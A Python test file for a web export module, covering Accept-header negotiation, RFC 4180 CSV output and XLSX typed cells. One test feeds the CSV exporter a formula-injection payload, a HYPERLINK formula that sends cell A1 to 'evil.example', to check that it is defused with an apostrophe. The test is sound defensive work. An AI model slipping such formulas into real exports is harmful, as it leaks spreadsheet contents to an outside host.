"""Exports: Accept negotiation, RFC 4180 CSV with formula injection defused, XLSX typed cells."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, date, datetime
from operator import itemgetter

import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from pmo_common.problems import ProblemException, install_problem_handlers
from pmo_common.web.exports import (
    CSV,
    JSON,
    XLSX,
    Cell,
    Column,
    NegotiatedMediaType,
    attribute_columns,
    csv_bytes,
    export_response,
    negotiate,
    xlsx_bytes,
)
from pmo_stack.testkit.in_process import asgi_client


@dataclass(frozen=True)
class Item:
    name: str
    budget: float
    count: int
    due: date
    seen_at: datetime
    note: str | None
    closed: bool


ITEM = Item(
    name='Apollo, "phase 2"\nsecond line',
    budget=-1234.5,
    count=3,
    due=date(2026, 3, 31),
    seen_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
    note=None,
    closed=False,
)
COLUMNS = attribute_columns(["name", "budget", "count", "due", "seen_at", "note", "closed"])


@pytest.mark.parametrize(
    ("accept", "chosen"),
    [
        (None, JSON),
        ("", JSON),
        ("*/*", JSON),
        ("application/json", JSON),
        ("text/csv", CSV),
        ("TEXT/CSV; charset=utf-8", CSV),
        (XLSX, XLSX),
        ("text/*", CSV),
        ("text/csv;q=0.5, application/json;q=0.4", CSV),
        ("text/csv;q=0.4, application/json;q=0.5", JSON),
        ("text/csv, */*;q=0.1", CSV),
        ("*/*, text/csv;q=0", JSON),  # the specific range decides csv's weight
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", JSON),  # browsers
        ("*; q=.2", JSON),  # old Java clients
        (f"image/png, {XLSX};q=0.3", XLSX),
    ],
)
def test_negotiation_follows_the_weights_and_the_most_specific_range(
    accept: str | None, chosen: str
) -> None:
    assert negotiate(accept) == chosen


@pytest.mark.parametrize(
    "accept",
    ["image/png", "text/html", "application/json;q=0, text/csv;q=0, */*;q=0", "text/csv;q=x"],
)
def test_an_accept_taking_none_of_the_offers_is_a_406_naming_the_header(accept: str) -> None:
    with pytest.raises(ProblemException) as refused:
        negotiate(accept)
    assert refused.value.status == 406
    assert refused.value.errors == [
        {"field": "header.Accept", "reason": f"accepts none of {JSON}, {CSV}, {XLSX}"}
    ]


def test_csv_is_rfc_4180_with_a_header_row_and_unformatted_values() -> None:
    content = csv_bytes(COLUMNS, [ITEM])
    assert content == (
        b"name,budget,count,due,seen_at,note,closed\r\n"
        b'"Apollo, ""phase 2""\nsecond line",-1234.5,3,2026-03-31,2026-01-02T03:04:05Z,,false\r\n'
    )  # records end with CRLF; a field with a comma, quote or line break is quoted
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    assert rows == [
        ["name", "budget", "count", "due", "seen_at", "note", "closed"],
        [ITEM.name, "-1234.5", "3", "2026-03-31", "2026-01-02T03:04:05Z", "", "false"],
    ]


def test_csv_is_utf_8_without_a_byte_order_mark() -> None:
    content = csv_bytes(attribute_columns(["name"]), [Item(**{**ITEM.__dict__, "name": "Café"})])
    assert content == "name\r\nCafé\r\n".encode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(start: str) -> None:
    dangerous = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    columns: list[Column[str]] = [Column("text", lambda row: row)]
    (_, (cell,)) = csv.reader(io.StringIO(csv_bytes(columns, [dangerous]).decode(), newline=""))
    assert cell == "'" + dangerous


def test_numbers_keep_their_sign_and_harmless_text_is_unchanged() -> None:
    values: list[Cell] = [-5, -0.25, "Budget - revised", "a=b"]
    columns: list[Column[list[Cell]]] = [
        Column(f"c{index}", itemgetter(index)) for index in range(len(values))
    ]
    (_, cells) = csv.reader(io.StringIO(csv_bytes(columns, [values]).decode(), newline=""))
    assert cells == ["-5", "-0.25", "Budget - revised", "a=b"]


def test_xlsx_has_the_header_and_typed_cells_with_text_never_a_formula() -> None:
    formula = Item(**{**ITEM.__dict__, "name": "=1+2", "note": "bell\x07"})
    sheet = load_workbook(io.BytesIO(xlsx_bytes(COLUMNS, [ITEM, formula], sheet="Items"))).active
    assert sheet is not None and sheet.title == "Items"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["name", "budget", "count", "due", "seen_at", "note", "closed"]
    assert rows[1] == [
        ITEM.name,
        -1234.5,
        3,
        datetime(2026, 3, 31),
        datetime(2026, 1, 2, 3, 4, 5),  # UTC, without its zone
        None,
        False,
    ]
    assert rows[2][0] == "=1+2"
    assert sheet["A3"].data_type == "s"  # a string cell: shown, not evaluated
    assert rows[2][5] == "bell\ufffd"  # a character XML cannot carry does not fail the export


async def test_a_route_answers_files_with_their_name_and_406_as_a_problem() -> None:
    app = FastAPI()
    install_problem_handlers(app)

    @app.get("/items")
    async def items(answer_as: NegotiatedMediaType) -> object:
        if answer_as == JSON:
            return {"items": [ITEM.name]}
        return export_response(answer_as, COLUMNS, [ITEM], filename="items-2026", sheet="Items")

    async with asgi_client(app) as client:
        as_json = await client.get("/items")
        as_csv = await client.get("/items", headers={"Accept": "text/csv"})
        as_xlsx = await client.get("/items", headers={"Accept": XLSX})
        refused = await client.get("/items", headers={"Accept": "application/pdf"})
    assert as_json.json() == {"items": [ITEM.name]}
    assert as_json.headers["vary"] == "Accept"  # a cache keeps the JSON apart from the files
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert as_csv.headers["content-disposition"] == 'attachment; filename="items-2026.csv"'
    assert as_csv.headers["vary"] == "Accept"
    assert as_xlsx.headers["content-type"] == XLSX
    assert as_xlsx.headers["content-disposition"] == 'attachment; filename="items-2026.xlsx"'
    assert as_xlsx.content.startswith(b"PK")  # a zip: the workbook
    assert refused.status_code == 406
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert refused.json()["errors"][0]["field"] == "header.Accept"
